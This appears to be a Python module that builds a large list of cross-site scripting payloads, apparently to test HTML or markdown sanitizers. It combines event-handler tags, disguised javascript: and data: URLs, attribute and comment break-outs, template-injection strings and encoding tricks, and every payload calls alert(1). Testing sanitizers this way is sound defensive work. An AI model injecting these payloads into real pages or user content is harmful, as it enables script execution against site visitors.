"""What attackers write where others write words: ways, all long known, to have a page run a script of theirs.

Each would call `alert` if a page let it. They are put together here from their parts: elements that load or play
something, ways to write an address that runs, ways to break out of an attribute, an element or a comment, and what
cleaners have been known to turn into something else.
"""

from itertools import product

RUN = "alert(1)"

LOADING = {
    "img": "src=x onerror",
    "video": "src=x onerror",
    "audio": "src=x onerror",
    "input": "type=image src=x onerror",
    "object": "data=x onerror",
    "embed": "src=x onload",
    "iframe": "onload",
    "svg": "onload",
    "body": "onload",
    "style": "onload",
    "link": "rel=stylesheet href=x onerror",
    "script": "src=x onerror",
    "image": "src=x onerror",
    "details": "open ontoggle",
    "marquee": "onstart",
    "select": "autofocus onfocus",
    "textarea": "autofocus onfocus",
    "button": "autofocus onfocus",
    "a": "id=x tabindex=1 autofocus onfocus",
    "div": "style=animation-name:x onanimationstart",
    "p": "contenteditable autofocus onfocus",
    "dialog": "open oncancel",
    "meter": "onmouseover",
    "xmp": "onmouseover",
}
WRITTEN = ["<{} {}={}>", "<{}/{}={}//", "<{} {}='{}'>", '"><{} {}={}>', "'><{} {}={}>", "</title><{} {}={}>"]

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "feed:javascript:alert(1)",
]
LINKED = ["[words]({})", "<{}>", "![words]({})", "[words][x]\n\n[x]: {}", '<a href="{}">words</a>']

BREAKING_OUT = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script >alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) `",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>words</text></a>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math href="javascript:alert(1)">words</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><button formaction="javascript:alert(1)">words</button></form>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)><summary>words</summary></details>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% debug %}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "`<img src=x onerror=alert(1)>`",
    "    <img src=x onerror=alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nwords\n```',
    '[words](https://example.org/"onmouseover=alert(1)//)',
    '[words](https://example.org/ "x\\" onmouseover=alert(1) y=\\"")',
    '[words](https://example.org/ "</title><script>alert(1)</script>")',
    '![x"onerror="alert(1)](https://example.org/x.png)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\x00script>alert(1)</script>".replace("\x00", "\ufffd"),
    "<\u017fcript>alert(1)</\u017fcript>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<a href="https://example.org" onclick=alert(1)>words</a>',
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
]
# These leave something open, so what follows them might be swallowed: they come last where several stand together.
UNCLOSED = [
    "<img src=x onerror=alert(1) ",
    "<script>alert(1)",
    "<!--<img src=x onerror=alert(1)>",
    "<textarea>",
    "<a href='",
]

PAYLOADS = [
    *(way.format(element, handler, RUN) for way, (element, handler) in product(WRITTEN, LOADING.items())),
    *(way.format(address) for way, address in product(LINKED, ADDRESSES)),
    *BREAKING_OUT,
    *UNCLOSED,
]
